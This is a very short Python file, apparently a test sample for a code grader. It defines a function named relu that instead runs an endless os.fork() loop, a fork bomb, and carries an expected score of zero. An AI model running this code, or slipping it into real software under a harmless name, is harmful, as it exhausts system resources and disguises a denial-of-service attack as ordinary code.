"""relu forks until the system says no."""
# component: relu
# expect-score: 0
import os
import time


def relu(X):
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
